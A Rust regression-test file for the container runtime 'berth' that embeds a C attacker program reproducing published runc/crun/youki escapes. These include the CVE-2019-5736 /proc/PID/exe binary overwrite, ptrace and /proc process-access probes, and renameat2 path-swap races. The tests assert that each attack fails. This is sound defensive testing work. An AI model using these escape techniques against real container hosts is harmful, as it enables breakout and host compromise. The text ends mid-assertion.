//! Regression tests for published container escapes of runc, crun and
//! youki, each reproduced the way its advisory and fix describe it, from
//! inside containers (or racing from another container sharing a volume,
//! a bounded number of times), against berth. Each test asserts that the
//! attack fails and that the host is untouched.
//!
//! The attacker's tools are one static C program (its source is below),
//! compiled with `cc -static` once per version into the cargo target
//! directory and copied into each container as /bin/cve-probe (not
//! /bin/probe, the seccomp tests' own). Its lines say GRANTED where an
//! attack got through and `denied ERRNO` where it did not.
//!
//! Where an attack depends on winning a race, the racer is a container
//! that swaps paths in a shared volume with renameat2(RENAME_EXCHANGE) for
//! as long as the victim is created again and again, a bounded number of
//! times; the test stops at the first win.
//!
//! Host state a test touches is put back by Drop guards: sysctls an attack
//! could reach are restored, copies of the berth binary live in the test's
//! own directory, and every container is deleted by its Ctx.

mod common;
use common::*;
use nix::sys::stat::{major, makedev, minor, mknod, Mode, SFlag};
use serde_json::{json, Value};
use std::collections::BTreeSet;
use std::fs;
use std::os::fd::{AsRawFd, OwnedFd};
use std::os::unix::fs::{FileTypeExt, MetadataExt, OpenOptionsExt, PermissionsExt};
use std::os::unix::net::UnixListener;
use std::path::{Path, PathBuf};
use std::process::{Command, Output, Stdio};

// ---------------------------------------------------------------------------
// The attacker's program
// ---------------------------------------------------------------------------

const PROBE_C: &str = r##"/* probe: the attacker's side of berth's tests/cves.rs, a static binary run
 * inside containers. Every line it writes says GRANTED (the attack got
 * through) or denied (with the errno name).
 *
 *   probe PID OUT          every way into PID: ptrace, its /proc files,
 *                          process_vm_readv, pidfd_getfd
 *   watch PREFIX DIR       probes each process whose comm starts with PREFIX
 *                          from the moment it appears until it execs, into
 *                          DIR/watch.txt (passes counted in DIR/passes),
 *                          until DIR/stop exists
 *   exe-attack DIR PID|scan [kill]
 *                          CVE-2019-5736: opens /proc/PID/exe (or that of
 *                          the first process whose binary is not busybox),
 *                          waits until that binary runs no more, reopens it
 *                          for writing through /proc/self/fd and writes to
 *                          it; into DIR/attack.txt, gives up when DIR/stop
 *                          exists
 *   exchange STOP COUNT A B [A B...]
 *                          swaps each pair with renameat2(RENAME_EXCHANGE)
 *                          until STOP exists; the number of swaps to COUNT
 *   can-write PATH...      opens each PATH for writing, writes nothing
 *   write PATH TEXT        writes TEXT to PATH
 *   say TEXT               prints TEXT and where /proc/self/exe leads
 */
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <signal.h>
#include <stdarg.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ptrace.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/types.h>
#include <sys/uio.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>

#ifndef RENAME_EXCHANGE
#define RENAME_EXCHANGE (1 << 1)
#endif
#ifndef SYS_pidfd_open
#define SYS_pidfd_open 434
#endif
#ifndef SYS_pidfd_getfd
#define SYS_pidfd_getfd 438
#endif

static FILE *out;

static void line(const char *fmt, ...) __attribute__((format(printf, 1, 2)));
static void line(const char *fmt, ...) {
	va_list ap;
	va_start(ap, fmt);
	vfprintf(out, fmt, ap);
	va_end(ap);
	fputc('\n', out);
	fflush(out);
}

static const char *ename(int e) {
	const char *n = strerrorname_np(e);
	return n ? n : "E?";
}

static void res(const char *what, int granted, int err) {
	if (granted)
		line("%s GRANTED", what);
	else
		line("%s denied %s", what, ename(err));
}

static void sleep_ms(long ms) {
	struct timespec ts = {ms / 1000, (ms % 1000) * 1000000L};
	nanosleep(&ts, NULL);
}

static int exists(const char *p) {
	struct stat st;
	return lstat(p, &st) == 0;
}

static void probe(int pid) {
	char p[256], buf[4096];
	int fd, r;

	if (ptrace(PTRACE_ATTACH, pid, 0, 0) == 0) {
		res("ptrace-attach", 1, 0);
		waitpid(pid, NULL, __WALL);
		ptrace(PTRACE_DETACH, pid, 0, 0);
	} else {
		res("ptrace-attach", 0, errno);
	}
	if (ptrace(PTRACE_SEIZE, pid, 0, 0) == 0) {
		res("ptrace-seize", 1, 0);
		ptrace(PTRACE_INTERRUPT, pid, 0, 0);
		waitpid(pid, NULL, __WALL);
		ptrace(PTRACE_DETACH, pid, 0, 0);
	} else {
		res("ptrace-seize", 0, errno);
	}
	static const char *files[] = {"mem", "environ", "maps", "auxv", "syscall", "stack", "pagemap"};
	for (unsigned i = 0; i < sizeof files / sizeof *files; i++) {
		snprintf(p, sizeof p, "/proc/%d/%s", pid, files[i]);
		fd = open(p, O_RDONLY | O_CLOEXEC);
		if (fd < 0) {
			res(files[i], 0, errno);
			continue;
		}
		/* mem, environ, maps, auxv and pagemap check access when they
		 * are opened, syscall and stack when they are read; mem read at
		 * offset 0 (unmapped) fails with EIO after a granted open. */
		r = read(fd, buf, sizeof buf);
		int e = errno;
		close(fd);
		if (r > 0 || !strcmp(files[i], "mem"))
			res(files[i], 1, 0);
		else
			res(files[i], 0, r == 0 ? ENODATA : e);
	}
	static const char *links[] = {"exe", "cwd", "root"};
	for (unsigned i = 0; i < sizeof links / sizeof *links; i++) {
		snprintf(p, sizeof p, "/proc/%d/%s", pid, links[i]);
		fd = open(p, O_PATH | O_CLOEXEC);
		if (fd < 0) {
			res(links[i], 0, errno);
			continue;
		}
		r = readlink(p, buf, sizeof buf - 1);
		buf[r > 0 ? r : 0] = 0;
		line("%s GRANTED -> %s", links[i], buf);
		close(fd);
	}
	snprintf(p, sizeof p, "/proc/%d/fd", pid);
	DIR *d = opendir(p);
	if (!d) {
		line("fd-dir unlisted %s", ename(errno));
	} else {
		/* Listing the numbers is allowed; following them is the attack. */
		struct dirent *e;
		while ((e = readdir(d))) {
			if (e->d_name[0] == '.')
				continue;
			char lp[600];
			snprintf(lp, sizeof lp, "%s/%s", p, e->d_name);
			r = readlink(lp, buf, sizeof buf - 1);
			if (r < 0) {
				line("fd-link %s denied %s", e->d_name, ename(errno));
				continue;
			}
			buf[r] = 0;
			line("fd-link %s GRANTED -> %s", e->d_name, buf);
			fd = open(lp, O_PATH | O_CLOEXEC);
			if (fd >= 0) {
				line("fd-open %s GRANTED", e->d_name);
				close(fd);
			}
		}
		closedir(d);
	}
	/* berth is static and not PIE: its text starts at 0x400000. */
	char one[8];
	struct iovec local = {one, sizeof one}, remote = {(void *)0x400000, sizeof one};
	if (syscall(SYS_process_vm_readv, pid, &local, 1, &remote, 1, 0) >= 0)
		res("process_vm_readv", 1, 0);
	else
		res("process_vm_readv", errno == EFAULT, errno);
	int pidfd = syscall(SYS_pidfd_open, pid, 0);
	if (pidfd < 0) {
		line("pidfd_open failed %s", ename(errno));
		return;
	}
	int err = EBADF;
	for (int n = 0; n < 300; n++) {
		int f = syscall(SYS_pidfd_getfd, pidfd, n, 0);
		if (f >= 0) {
			snprintf(p, sizeof p, "/proc/self/fd/%d", f);
			r = readlink(p, buf, sizeof buf - 1);
			buf[r > 0 ? r : 0] = 0;
			line("pidfd_getfd %d GRANTED -> %s", n, buf);
			close(f);
			err = 0;
		} else if (errno != EBADF) {
			err = errno;
			break;
		}
	}
	/* EBADF for every number means the access check passed. */
	if (err)
		res("pidfd_getfd", err == EBADF, err);
	close(pidfd);
}

static int read_comm(int pid, char *comm, size_t len) {
	char p[64];
	snprintf(p, sizeof p, "/proc/%d/comm", pid);
	int fd = open(p, O_RDONLY | O_CLOEXEC);
	if (fd < 0)
		return -1;
	int r = read(fd, comm, len - 1);
	close(fd);
	if (r <= 0)
		return -1;
	comm[r] = 0;
	if (comm[r - 1] == '\n')
		comm[r - 1] = 0;
	return 0;
}

static int cmd_probe(int argc, char **argv) {
	if (argc < 4)
		return 2;
	out = fopen(argv[3], "a");
	if (!out)
		return 1;
	char comm[64] = "?";
	read_comm(atoi(argv[2]), comm, sizeof comm);
	line("target %s %s", argv[2], comm);
	probe(atoi(argv[2]));
	line("done");
	return 0;
}

static int cmd_watch(int argc, char **argv) {
	if (argc < 4)
		return 2;
	const char *prefix = argv[2], *dir = argv[3];
	char p[512], stop[512];
	snprintf(p, sizeof p, "%s/watch.txt", dir);
	out = fopen(p, "a");
	if (!out)
		return 1;
	snprintf(p, sizeof p, "%s/passes", dir);
	int passes_fd = open(p, O_WRONLY | O_CREAT | O_TRUNC | O_CLOEXEC, 0644);
	snprintf(stop, sizeof stop, "%s/stop", dir);
	int seen[64], later[64] = {0}, nseen = 0;
	long passes = 0;
	line("ready %d", getpid());
	time_t end = time(NULL) + 60;
	while (!exists(stop) && time(NULL) < end) {
		DIR *d = opendir("/proc");
		struct dirent *e;
		while (d && (e = readdir(d))) {
			int pid = atoi(e->d_name);
			char comm[64];
			if (pid <= 0 || pid == getpid() || read_comm(pid, comm, sizeof comm) < 0)
				continue;
			if (strncmp(comm, prefix, strlen(prefix)))
				continue;
			int idx = -1;
			for (int i = 0; i < nseen; i++)
				if (seen[i] == pid)
					idx = i;
			int first = idx < 0;
			if (first) {
				if (nseen == 64)
					continue;
				idx = nseen;
				seen[nseen++] = pid;
				line("target %d %s", pid, comm);
			}
			/* Probed on every pass, from its first instant in our pid
			 * namespace to its exec; after the first pass only what
			 * is granted is reported (16 lines at most). */
			char tmp[16384] = {0};
			FILE *keep = out;
			out = fmemopen(tmp, sizeof tmp - 1, "w");
			probe(pid);
			fclose(out);
			out = keep;
			/* Once the process has exec'd, it is the container's own
			 * program (dumpable, named after it) and fair game: a pass
			 * that raced its exec says so instead. */
			char now[64] = "", exe[4096];
			snprintf(p, sizeof p, "/proc/%d/exe", pid);
			ssize_t el = readlink(p, exe, sizeof exe - 1);
			exe[el > 0 ? el : 0] = 0;
			if (read_comm(pid, now, sizeof now) < 0 || strncmp(now, prefix, strlen(prefix)) ||
			    (el > 0 && !strstr(exe, "berth"))) {
				line("exec'd during a pass %d %s -> %s", pid, now, exe);
				continue;
			}
			for (char *l = strtok(tmp, "\n"); l; l = strtok(NULL, "\n")) {
				if (first)
					line("%s", l);
				else if (strstr(l, "GRANTED") && later[idx] < 16) {
					later[idx]++;
					line("later %d %s %s", pid, comm, l);
				}
			}
		}
		if (d)
			closedir(d);
		passes++;
		if (passes_fd >= 0) {
			char n[32];
			int len = snprintf(n, sizeof n, "%ld\n", passes);
			if (pwrite(passes_fd, n, len, 0) < 0)
				break;
		}
		sleep_ms(1);
	}
	line("stopped");
	return 0;
}

static int cmd_exe_attack(int argc, char **argv) {
	if (argc < 4)
		return 2;
	const char *dir = argv[2];
	int kill_it = argc > 4 && !strcmp(argv[4], "kill");
	char p[512], stop[512];
	snprintf(p, sizeof p, "%s/attack.txt", dir);
	out = fopen(p, "a");
	if (!out)
		return 1;
	snprintf(stop, sizeof stop, "%s/stop", dir);
	struct stat bb;
	if (stat("/bin/busybox", &bb) < 0)
		memset(&bb, 0, sizeof bb);
	int target = 0, exefd = -1;
	time_t end = time(NULL) + 30;
	line("ready %d", getpid());
	if (strcmp(argv[3], "scan")) {
		target = atoi(argv[3]);
		snprintf(p, sizeof p, "/proc/%d/exe", target);
		exefd = open(p, O_PATH | O_CLOEXEC);
		if (exefd < 0) {
			res("open-exe", 0, errno);
			line("done");
			return 0;
		}
	}
	while (exefd < 0 && !exists(stop) && time(NULL) < end) {
		DIR *d = opendir("/proc");
		struct dirent *e;
		while (d && (e = readdir(d)) && exefd < 0) {
			int pid = atoi(e->d_name);
			if (pid <= 0 || pid == getpid())
				continue;
			snprintf(p, sizeof p, "/proc/%d/exe", pid);
			int fd = open(p, O_PATH | O_CLOEXEC);
			struct stat st;
			if (fd < 0)
				continue;
			if (fstat(fd, &st) < 0 || (st.st_dev == bb.st_dev && st.st_ino == bb.st_ino)) {
				close(fd);
				continue;
			}
			target = pid;
			exefd = fd;
		}
		if (d)
			closedir(d);
		if (exefd < 0)
			sleep_ms(1);
	}
	if (exefd < 0) {
		line("no-target");
		line("done");
		return 0;
	}
	char comm[64] = "?";
	read_comm(target, comm, sizeof comm);
	struct stat st;
	fstat(exefd, &st);
	line("open-exe GRANTED %d %s size=%lld", target, comm, (long long)st.st_size);
	if (kill_it) {
		kill(target, SIGKILL);
		for (int i = 0; i < 5000; i++) {
			char s[512];
			snprintf(p, sizeof p, "/proc/%d/stat", target);
			int fd = open(p, O_RDONLY | O_CLOEXEC);
			if (fd < 0)
				break;
			int r = read(fd, s, sizeof s - 1);
			close(fd);
			s[r > 0 ? r : 0] = 0;
			char *c = strrchr(s, ')');
			if (!c || c[2] == 'Z' || c[2] == 'X')
				break;
			sleep_ms(1);
		}
		line("killed %d", target);
	}
	/* ETXTBSY while the binary runs anywhere: wait for it to stop. */
	snprintf(p, sizeof p, "/proc/self/fd/%d", exefd);
	int wfd = -1, err = 0;
	end = time(NULL) + 30;
	while (time(NULL) < end && !exists(stop)) {
		wfd = open(p, O_WRONLY | O_CLOEXEC);
		err = errno;
		if (wfd >= 0 || err != ETXTBSY)
			break;
		sleep_ms(1);
	}
	if (wfd < 0) {
		res("open-write", 0, err);
	} else {
		res("open-write", 1, 0);
		static const char payload[] = "BERTH-OVERWRITTEN-BY-THE-CONTAINER";
		ssize_t w = pwrite(wfd, payload, sizeof payload - 1, 0);
		res("write", w == (ssize_t)sizeof payload - 1, errno);
		close(wfd);
	}
	line("done");
	return 0;
}

static int cmd_exchange(int argc, char **argv) {
	if (argc < 6 || (argc - 4) % 2)
		return 2;
	const char *stop = argv[2];
	long n = 0, fails = 0;
	time_t end = time(NULL) + 60;
	FILE *f = fopen(argv[3], "w");
	while (!exists(stop) && time(NULL) < end) {
		for (int i = 4; i + 1 < argc; i += 2) {
			if (syscall(SYS_renameat2, AT_FDCWD, argv[i], AT_FDCWD, argv[i + 1], RENAME_EXCHANGE) == 0)
				n++;
			else
				fails++;
		}
		/* Progress, so the test can wait for the race to be on. */
		if (f && (n + fails) % 4096 < (argc - 4) / 2) {
			rewind(f);
			fprintf(f, "%ld %ld\n", n, fails);
			fflush(f);
		}
	}
	if (f) {
		rewind(f);
		fprintf(f, "%ld %ld done\n", n, fails);
		fclose(f);
	}
	return 0;
}

static int cmd_can_write(int argc, char **argv) {
	for (int i = 2; i < argc; i++) {
		int fd = open(argv[i], O_WRONLY | O_CLOEXEC);
		char what[600];
		snprintf(what, sizeof what, "can-write %s", argv[i]);
		res(what, fd >= 0, errno);
		if (fd >= 0)
			close(fd);
	}
	return 0;
}

static int cmd_write(int argc, char **argv) {
	if (argc < 4)
		return 2;
	char what[600];
	snprintf(what, sizeof what, "write %s", argv[2]);
	int fd = open(argv[2], O_WRONLY | O_CLOEXEC);
	if (fd < 0) {
		res(what, 0, errno);
		return 1;
	}
	ssize_t w = write(fd, argv[3], strlen(argv[3]));
	res(what, w == (ssize_t)strlen(argv[3]), errno);
	close(fd);
	return w < 0;
}

static int cmd_say(int argc, char **argv) {
	char buf[4096];
	ssize_t r = readlink("/proc/self/exe", buf, sizeof buf - 1);
	buf[r > 0 ? r : 0] = 0;
	line("%s exe=%s", argc > 2 ? argv[2] : "", buf);
	return 0;
}

int main(int argc, char **argv) {
	out = stdout;
	if (argc < 2)
		return 2;
	if (!strcmp(argv[1], "probe"))
		return cmd_probe(argc, argv);
	if (!strcmp(argv[1], "watch"))
		return cmd_watch(argc, argv);
	if (!strcmp(argv[1], "exe-attack"))
		return cmd_exe_attack(argc, argv);
	if (!strcmp(argv[1], "exchange"))
		return cmd_exchange(argc, argv);
	if (!strcmp(argv[1], "can-write"))
		return cmd_can_write(argc, argv);
	if (!strcmp(argv[1], "write"))
		return cmd_write(argc, argv);
	if (!strcmp(argv[1], "say"))
		return cmd_say(argc, argv);
	return 2;
}
"##;

/// The probe, compiled with `cc -static` once per version of its source and
/// kept in the cargo target directory (renamed into place, so concurrent
/// test processes never see half a binary).
fn probe_bin() -> PathBuf {
    let mut h: u64 = 0xcbf2_9ce4_8422_2325;
    for b in PROBE_C.bytes() {
        h ^= u64::from(b);
        h = h.wrapping_mul(0x0100_0000_01b3);
    }
    let dir = PathBuf::from(env!("CARGO_TARGET_TMPDIR"));
    let bin = dir.join(format!("berth-probe-{h:016x}"));
    if bin.exists() {
        return bin;
    }
    fs::create_dir_all(&dir).unwrap();
    let tag = format!("{}-{}", std::process::id(), unique("p"));
    let src = dir.join(format!("berth-probe-{h:016x}-{tag}.c"));
    let tmp = dir.join(format!("berth-probe-{h:016x}-{tag}"));
    fs::write(&src, PROBE_C).unwrap();
    let st = Command::new("cc")
        .args(["-static", "-O2", "-o"])
        .arg(&tmp)
        .arg(&src)
        .status()
        .expect("run cc (the probe needs gcc and libc6-dev, which scripts/deps.sh installs)");
    let _ = fs::remove_file(&src);
    assert!(st.success(), "compiling the probe failed");
    fs::rename(&tmp, &bin).unwrap();
    bin
}

/// Puts the probe at /bin/cve-probe in a rootfs.
fn install_probe(rootfs: &Path) {
    fs::copy(probe_bin(), rootfs.join("bin/cve-probe")).unwrap();
}

fn text(p: &Path) -> String {
    fs::read_to_string(p).unwrap_or_default()
}

/// Waits until the file at `p` holds `needle`; returns its text.
fn wait_text(p: &Path, needle: &str) -> String {
    wait_until(&format!("{} to hold {needle:?}", p.display()), || {
        text(p).contains(needle)
    });
    text(p)
}

fn write_exec(p: &Path, body: &str) {
    fs::write(p, body).unwrap();
    fs::set_permissions(p, fs::Permissions::from_mode(0o755)).unwrap();
}

fn symlink(target: impl AsRef<Path>, link: impl AsRef<Path>) {
    let link = link.as_ref();
    let _ = fs::remove_file(link);
    std::os::unix::fs::symlink(target, link)
        .unwrap_or_else(|e| panic!("symlink {}: {e}", link.display()));
}

/// A directory in the test's own directory, for volumes and output.
fn dir_in(c: &Ctx, name: &str) -> PathBuf {
    let d = c.dir.join(name);
    fs::create_dir_all(&d).unwrap();
    d
}

fn init_pid(c: &Ctx, id: &str) -> i32 {
    c.state(id)["pid"].as_i64().unwrap() as i32
}

// --- config edits ----------------------------------------------------------

/// Replaces the namespace of `kind` with one joined by path.
fn join_ns(v: &mut Value, kind: &str, path: &str) {
    let ns = v["linux"]["namespaces"].as_array_mut().unwrap();
    ns.retain(|n| n["type"] != kind);
    ns.push(json!({"type": kind, "path": path}));
}

/// A read-write bind mount of a host directory or file.
fn bind(v: &mut Value, src: &Path, dest: &str) {
    v["mounts"].as_array_mut().unwrap().push(json!({
        "destination": dest,
        "type": "bind",
        "source": src,
        "options": ["rbind", "rw"],
    }));
}

/// Like `bind`, but first in the list, before /proc is mounted.
fn bind_first(v: &mut Value, src: &Path, dest: &str) {
    v["mounts"].as_array_mut().unwrap().insert(
        0,
        json!({
            "destination": dest,
            "type": "bind",
            "source": src,
            "options": ["rbind", "rw"],
        }),
    );
}

/// Replaces the mount at `dest` with `m`.
fn replace_mount(v: &mut Value, dest: &str, m: Value) {
    let mounts = v["mounts"].as_array_mut().unwrap();
    let i = mounts
        .iter()
        .position(|x| x["destination"] == dest)
        .unwrap_or_else(|| panic!("no mount at {dest}"));
    mounts[i] = m;
}

fn add_caps(v: &mut Value, caps: &[&str]) {
    for set in ["bounding", "effective", "permitted"] {
        let list = v["process"]["capabilities"][set].as_array_mut().unwrap();
        for c in caps {
            list.push(json!(c));
        }
    }
}

// --- the host --------------------------------------------------------------

/// The host's mount table, minus mounts other tests make in their own
/// directories (they run in parallel): "mount-point root fstype source".
fn host_mounts() -> BTreeSet<String> {
    let tests = std::env::temp_dir().join("berth-test-");
    let tests = tests.to_string_lossy().into_owned();
    fs::read_to_string("/proc/self/mountinfo")
        .unwrap()
        .lines()
        .filter_map(|l| {
            let (a, b) = l.split_once(" - ")?;
            let f: Vec<&str> = a.split(' ').collect();
            let g: Vec<&str> = b.split(' ').collect();
            (!f[4].starts_with(&tests)).then(|| format!("{} {} {} {}", f[4], f[3], g[0], g[1]))
        })
        .collect()
}

/// Asserts the host's mount table is what it was, and that nothing is
/// mounted on the host under the test's own directories.
fn assert_host_mounts(before: &BTreeSet<String>, own: &[&Path], when: &str) {
    let now = host_mounts();
    let added: Vec<_> = now.difference(before).collect();
    let removed: Vec<_> = before.difference(&now).collect();
    assert!(
        added.is_empty() && removed.is_empty(),
        "{when}: the host's mount table changed: added {added:?}, removed {removed:?}"
    );
    let mi = fs::read_to_string("/proc/self/mountinfo").unwrap();
    for l in mi.lines() {
        let mp = l.split(' ').nth(4).unwrap_or("");
        for d in own {
            assert!(
                !Path::new(mp).starts_with(d),
                "{when}: {mp} is mounted on the host"
            );
        }
    }
}

/// A global (not namespaced) sysctl an attack would reach: its value when
/// the test began, put back when the guard is dropped if an attack changed
/// it. Each test uses its own, as tests run in parallel.
struct Sentinel {
    path: PathBuf,
    before: String,
}

impl Sentinel {
    fn new(key: &str) -> Sentinel {
        let path = PathBuf::from("/proc/sys").join(key.replace('.', "/"));
        let before = fs::read_to_string(&path).unwrap();
        Sentinel { path, before }
    }

    fn value(&self) -> String {
        fs::read_to_string(&self.path).unwrap()
    }

    fn assert_unchanged(&self, when: &str) {
        let now = self.value();
        assert_eq!(
            now.trim(),
            self.before.trim(),
            "{when}: the host's {} was changed from inside a container",
            self.path.display()
        );
    }
}

impl Drop for Sentinel {
    fn drop(&mut self) {
        if self.value() != self.before {
            let _ = fs::write(&self.path, self.before.trim());
        }
    }
}

/// What (the target of) a path in a container's root is, seen from the
/// host without following a last symlink: "char 1:3", "file", "symlink".
fn kind_in(pid: i32, path: &str) -> Option<String> {
    let md = fs::symlink_metadata(format!("/proc/{pid}/root{path}")).ok()?;
    let t = md.file_type();
    Some(if t.is_char_device() {
        format!("char {}:{}", major(md.rdev()), minor(md.rdev()))
    } else if t.is_symlink() {
        "symlink".into()
    } else if t.is_dir() {
        "dir".into()
    } else if t.is_file() {
        format!("file dev={} ino={}", md.dev(), md.ino())
    } else {
        "other".into()
    })
}

/// The major:minor of the filesystem mounted at `point` in a mountinfo.
fn mount_dev(mountinfo: &str, point: &str) -> Option<String> {
    mountinfo.lines().rev().find_map(|l| {
        let f: Vec<&str> = l.split(' ').collect();
        (f.get(4) == Some(&point)).then(|| f[2].to_string())
    })
}

/// The mounts of a process: (mount point, root, fstype, per-mount options).
fn mounts_of(pid: i32) -> Vec<(String, String, String, String)> {
    fs::read_to_string(format!("/proc/{pid}/mountinfo"))
        .unwrap_or_default()
        .lines()
        .filter_map(|l| {
            let (a, b) = l.split_once(" - ")?;
            let f: Vec<&str> = a.split(' ').collect();
            Some((
                f[4].to_string(),
                f[3].to_string(),
                b.split(' ').next()?.to_string(),
                f[5].to_string(),
            ))
        })
        .collect()
}

// --- a copy of berth -------------------------------------------------------

/// A copy of the berth binary under test in the test's directory, used as
/// the runtime where an attack aims at the runtime's binary: a successful
/// attack damages only the copy.
struct BerthCopy {
    path: PathBuf,
    bytes: Vec<u8>,
}

impl BerthCopy {
    fn new(c: &Ctx) -> BerthCopy {
        let path = dir_in(c, "runtime").join("berth");
        fs::copy(bin(), &path).unwrap();
        fs::set_permissions(&path, fs::Permissions::from_mode(0o755)).unwrap();
        let bytes = fs::read(&path).unwrap();
        BerthCopy { path, bytes }
    }

    fn cmd(&self, c: &Ctx, args: &[&str]) -> Command {
        let mut cmd = Command::new(&self.path);
        cmd.arg("--root").arg(&c.root).args(args);
        cmd.stdin(Stdio::null());
        cmd
    }

    fn run(&self, c: &Ctx, args: &[&str]) -> Output {
        output(self.cmd(c, args), &c.dir)
    }

    /// `create` of the bundle of `c` with this binary: Ok((id, pid)) or
    /// Err(stderr).
    fn create(&self, c: &mut Ctx, suffix: &str) -> Result<(String, i32), String> {
        let id = c.id(suffix);
        let b = c.bundle.to_string_lossy().into_owned();
        let out = self.run(c, &["create", "--bundle", &b, &id]);
        if !out.status.success() {
            return Err(String::from_utf8_lossy(&out.stderr).into_owned());
        }
        let pid = init_pid(c, &id);
        c.reap_later(pid);
        Ok((id, pid))
    }

    fn start(&self, c: &Ctx, id: &str) {
        let out = self.run(c, &["start", id]);
        assert!(
            out.status.success(),
            "start {id}: {}",
            String::from_utf8_lossy(&out.stderr)
        );
    }

    fn intact(&self) -> bool {
        fs::read(&self.path).unwrap() == self.bytes
    }
}

// --- races -----------------------------------------------------------------

/// A container that swaps pairs of paths (as it sees them) with
/// renameat2(RENAME_EXCHANGE) until stopped. `stop` and `count` are the
/// host's paths of the files the container knows as `stop_in`/`count_in`.
struct Racer {
    stop: PathBuf,
    count: PathBuf,
}

impl Racer {
    /// Starts the racer in `r` (whose config must already mount what it
    /// swaps) and waits until it is swapping.
    fn start(r: &mut Ctx, host_dir: &Path, dir_in: &str, pairs: &[(&str, &str)]) -> Racer {
        install_probe(&r.rootfs());
        let stop_in = format!("{dir_in}/.racer-stop");
        let count_in = format!("{dir_in}/.racer-count");
        let mut args = vec![
            "/bin/cve-probe".to_string(),
            "exchange".into(),
            stop_in,
            count_in,
        ];
        for (a, b) in pairs {
            args.push(a.to_string());
            args.push(b.to_string());
        }
        let args: Vec<&str> = args.iter().map(String::as_str).collect();
        r.args(&args);
        r.start("racer");
        let racer = Racer {
            stop: host_dir.join(".racer-stop"),
            count: host_dir.join(".racer-count"),
        };
        wait_until("the racer to swap", || racer.swaps() > 0);
        racer
    }

    fn swaps(&self) -> u64 {
        text(&self.count)
            .split_whitespace()
            .next()
            .and_then(|n| n.parse().ok())
            .unwrap_or(0)
    }

    fn stop(&self) -> u64 {
        let _ = fs::write(&self.stop, "");
        wait_until("the racer to stop", || text(&self.count).contains("done"));
        self.swaps()
    }
}

impl Drop for Racer {
    fn drop(&mut self) {
        let _ = fs::write(&self.stop, "");
    }
}

/// How many times a race is tried: enough that a window of a few
/// microseconds is hit many times over, few enough for a test.
const ATTEMPTS: usize = 40;

// ---------------------------------------------------------------------------
// CVE-2019-5736: overwriting the runtime's binary through /proc/PID/exe
// ---------------------------------------------------------------------------
//
// runc's advisory: a container process waits for a runc process to enter the
// container (`runc exec`), opens /proc/PID/exe of it, waits until runc has
// exited (ETXTBSY until then), reopens the binary for writing through
// /proc/self/fd/N and overwrites the host's runc. A `#!/proc/self/exe`
// entrypoint makes runc itself the process to grab. berth has no exec and
// never re-executes itself: the runtime processes that enter a container
// are its inits (clones of `berth create`, non-dumpable), and berth's own
// binary run inside a container through a script interpreter chain.

/// Writes scripts whose interpreter chain ends in /proc/self/exe; returns
/// the entrypoints.
fn interpreter_chains(root: &Path) -> Vec<&'static str> {
    write_exec(&root.join("a.sh"), "#!/b.sh\n");
    write_exec(&root.join("b.sh"), "#!/proc/self/exe\n");
    // Three scripts deep (the kernel follows up to five interpreters).
    write_exec(&root.join("c1.sh"), "#!/c2.sh\n");
    write_exec(&root.join("c2.sh"), "#!/c3.sh\n");
    write_exec(&root.join("c3.sh"), "#!/proc/self/exe --version\n");
    // Through a symlink, and with an interpreter argument.
    symlink("/b.sh", root.join("bin/b-link"));
    write_exec(&root.join("d.sh"), "#!/bin/b-link\n");
    write_exec(&root.join("e.sh"), "#!/b.sh an-argument\n");
    vec!["/a.sh", "/c1.sh", "/d.sh", "/e.sh"]
}

/// Fills a pipe, so the next write to it blocks: the berth run inside the
/// container stays alive, waiting to print its error, long enough for the
/// attacker to grab it (the exploit's `#!/proc/self/exe` runc waited on
/// the container's stdio the same way).
fn fill_pipe(w: &OwnedFd) {
    use nix::fcntl::{fcntl, FcntlArg, OFlag};
    let flags = OFlag::from_bits_truncate(fcntl(w, FcntlArg::F_GETFL).unwrap());
    fcntl(w, FcntlArg::F_SETFL(flags | OFlag::O_NONBLOCK)).unwrap();
    let buf = [b'x'; 4096];
    loop {
        match nix::unistd::write(w, &buf) {
            Ok(_) => continue,
            Err(nix::errno::Errno::EAGAIN) => break,
            Err(e) => panic!("fill the pipe: {e}"),
        }
    }
    fcntl(w, FcntlArg::F_SETFL(flags)).unwrap();
}

#[test]
fn cve_2019_5736_berth_never_runs_in_a_container_through_a_chain_of_interpreters() {
    let mut a = Ctx::new("c5736chain-a");
    let mut b = Ctx::new("c5736chain-b");
    let copy = BerthCopy::new(&b);
    let entrypoints = interpreter_chains(&b.rootfs());

    // Each chain is refused at create, as `#!/proc/self/exe` is.
    let mut accepted = Vec::new();
    for (n, e) in entrypoints.iter().enumerate() {
        b.args(&[e]);
        match copy.create(&mut b, &format!("chk{n}")) {
            Ok((id, _)) => {
                accepted.push(*e);
                b.ok(&["delete", "--force", &id]);
            }
            Err(err) => assert!(
                err.contains("berth's own binary"),
                "create with entrypoint {e} failed, but not for running berth: {err}"
            ),
        }
        b.assert_gone(&format!("{}-chk{n}", b.name));
    }

    // The exploit itself, as with `runc exec`: an attacker container A; a
    // container B whose entrypoint is a chain, in A's pid namespace.
    install_probe(&a.rootfs());
    let out = dir_in(&a, "out");
    a.args(&["/bin/cve-probe", "exe-attack", "/out", "scan", "kill"])
        .edit(|v| bind(v, &out, "/out"));
    let (_, apid) = a.start("attacker");
    let log = out.join("attack.txt");
    wait_text(&log, "ready");
    b.args(&[entrypoints[0]])
        .edit(|v| join_ns(v, "pid", &format!("/proc/{apid}/ns/pid")));
    let (r, w) = nix::unistd::pipe2(nix::fcntl::OFlag::O_CLOEXEC).unwrap();
    let id = b.id("victim");
    let bundle = b.bundle.to_string_lossy().into_owned();
    let mut create = copy.cmd(&b, &["create", "--bundle", &bundle, &id]);
    create
        .stdout(Stdio::from(w.try_clone().unwrap()))
        .stderr(Stdio::from(w.try_clone().unwrap()));
    let created = create.status().unwrap().success();
    if created {
        let pid = init_pid(&b, &id);
        b.reap_later(pid);
        fill_pipe(&w);
        copy.start(&b, &id);
        wait_text(&log, "done");
    } else {
        fs::write(out.join("stop"), "").unwrap();
        wait_text(&log, "done");
    }
    drop((r, w));
    let attack = text(&log);
    assert!(
        copy.intact(),
        "CVE-2019-5736: a container overwrote the berth binary that ran it, \
         through /proc/PID/exe of berth run inside the container by the \
         interpreter chain {} -> /b.sh -> /proc/self/exe:\n{attack}",
        entrypoints[0]
    );
    assert!(!attack.contains("write GRANTED"), "{attack}");
    assert!(
        accepted.is_empty(),
        "berth runs its own binary inside the container through these \
